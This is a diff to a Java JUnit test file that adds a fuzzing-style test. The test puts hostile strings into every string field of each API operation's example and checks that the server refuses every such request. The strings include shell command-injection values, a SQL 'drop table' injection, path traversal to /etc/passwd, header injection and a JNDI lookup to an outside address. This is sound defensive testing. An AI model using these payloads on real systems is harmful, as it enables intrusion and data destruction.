@@ -10,6 +10,8 @@ import dev.holdfast.api.testing.Fixtures;
 import dev.holdfast.api.testing.Http;
 import dev.holdfast.api.testing.RawHttp;
 import dev.holdfast.api.testing.TestPlatform;
+import dev.holdfast.schemas.catalogue.Catalogue;
+import dev.holdfast.schemas.operation.OperationType;
 import java.io.IOException;
 import java.nio.charset.StandardCharsets;
 import java.util.ArrayList;
@@ -20,6 +22,11 @@ import org.junit.jupiter.api.AfterEach;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.slf4j.LoggerFactory;
+import tools.jackson.databind.JsonNode;
+import tools.jackson.databind.json.JsonMapper;
+import tools.jackson.databind.node.ArrayNode;
+import tools.jackson.databind.node.ObjectNode;
+import tools.jackson.databind.node.StringNode;
 
 /**
  * Many of each kind of input that once was an error of ours: the answer is the client's mistake, as
@@ -276,6 +283,74 @@ final class HostileInputsTest {
             "{\"type\":\"exec\",\"selector\":\"all\",\"maxFailures\":\"101%\"}",
             "{\"type\":\"exec\",\"selector\":\"all\",\"priority\":null,\"priority\":7}")
         .forEach(body -> refused("POST " + body, OWNER.post("/api/v1/operations", body)));
+  }
+
+  /** Every string of every operation's example in turn: none is more than a wrong field. */
+  @Test
+  void shouldAnswerHostileStringsInEveryFieldOfEveryOperationAsAProblem() {
+    List<String> hostile =
+        List.of(
+            "$(touch /var/tmp/injected)",
+            "';touch /var/tmp/injected;'",
+            "a\ntouch /var/tmp/injected",
+            "x'); drop table servers; --",
+            "../../../../etc/passwd",
+            "a\r\nX-Injected: yes",
+            "a\u0000b",
+            "${jndi:ldap://192.0.2.1/x}{{7*7}}",
+            "%s%n%x",
+            "\ud800",
+            "secret://../x#y",
+            "\u202e" + "a".repeat(70_000));
+    JsonMapper json = new JsonMapper();
+    int asked = 0;
+    for (OperationType operation : Catalogue.operations()) {
+      JsonNode example = json.readTree(operation.example());
+      for (String path : strings(example, "")) {
+        for (String text : hostile) {
+          ObjectNode request = json.createObjectNode();
+          request.put("type", operation.name()).put("selector", "there-is-no-such-server");
+          request.set("input", with(example, path, text));
+          refused(
+              operation.name() + path + " " + text.substring(0, Math.min(30, text.length())),
+              OWNER.post("/api/v1/operations", request));
+          asked++;
+        }
+      }
+    }
+    assertThat(asked).isGreaterThan(300);
+  }
+
+  /** JSON Pointers to all strings. */
+  private static List<String> strings(JsonNode node, String at) {
+    if (node.isString()) {
+      return List.of(at);
+    }
+    List<String> found = new ArrayList<>();
+    if (node.isObject()) {
+      node.properties()
+          .forEach(it -> {
+            String key = it.getKey().replace("~", "~0").replace("/", "~1");
+            found.addAll(strings(it.getValue(), at + "/" + key));
+          });
+    } else if (node.isArray()) {
+      for (int i = 0; i < node.size(); i++) {
+        found.addAll(strings(node.get(i), at + "/" + i));
+      }
+    }
+    return found;
+  }
+
+  private static JsonNode with(JsonNode example, String path, String text) {
+    JsonNode changed = example.deepCopy();
+    int last = path.lastIndexOf('/');
+    String name = path.substring(last + 1).replace("~1", "/").replace("~0", "~");
+    switch (changed.at(path.substring(0, last))) {
+      case ObjectNode object -> object.put(name, text);
+      case ArrayNode array -> array.set(Integer.parseInt(name), StringNode.valueOf(text));
+      default -> throw new IllegalArgumentException(path);
+    }
+    return changed;
   }
 
   private void refused(String what, Http.Answer answer) {
